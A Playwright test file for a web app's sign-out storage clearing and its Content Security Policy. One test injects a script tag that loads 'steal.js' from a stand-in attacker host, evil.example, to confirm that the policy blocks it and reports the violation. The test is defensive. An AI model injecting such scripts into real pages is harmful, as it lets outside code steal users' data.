import { startRecordingProxy } from '../recording-proxy.ts';
import { expect, signInAs, test } from '../test.ts';

test('after the sign-out the browser remembers the device, and nothing of who worked at it', async ({ page, operator }) => {
  await signInAs(page, operator);
  await page.evaluate(() => {
    for (const key of ['assay.preferences', 'assay.persist', 'left-by-a-library']) localStorage.setItem(key, '{}');
    sessionStorage.setItem('left-by-a-library', 'x');
  });
  const device = await page.evaluate(() => localStorage.getItem('assay.deviceId'));
  expect(device).not.toBeNull();
  const answered = page.waitForResponse((response) => response.url().endsWith('/auth/sign-out'));
  await page.getByRole('button', { name: 'Sign out' }).first().click();
  expect(await (await answered).headerValue('clear-site-data')).toBe('"cache"');
  await page.waitForURL((url) => url.pathname === '/');
  const kept = await page.evaluate(() => Object.fromEntries(Object.keys(localStorage).map((key) => [key, localStorage.getItem(key)])));
  // That the session has ended is the device's to know, too: a page that is reloaded then stays shut.
  expect(Object.keys(kept).filter((key) => !['assay.deviceId', 'assay.ui', 'assay.idleUntil'].includes(key))).toEqual([]);
  expect(kept['assay.deviceId']).toBe(device);
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
});

test.describe('what breaks the content policy', () => {
  test.use({ breaksPolicy: true });

  test('a script that was smuggled into a page is not run, and the server hears of it', async ({ page, baseURL }) => {
    const proxy = await startRecordingProxy(baseURL ?? '');
    try {
      await page.goto(`${proxy.address}/signin`);
      const blocked = page.evaluate(
        () =>
          new Promise<string>((done) =>
            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective)),
          ),
      );
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/steal.js?who=Grace';
        document.head.append(script);
      });
      expect(await blocked).toBe('script-src-elem');
      await expect.poll(() => proxy.passed.filter(({ path }) => path === '/csp-report')).toHaveLength(1);
      const report = proxy.passed.find(({ path }) => path === '/csp-report');
      expect(report).toMatchObject({ method: 'POST', status: 204 });
      expect(report?.body).toContain('evil.example');
    } finally {
      proxy.close();
    }
  });
});
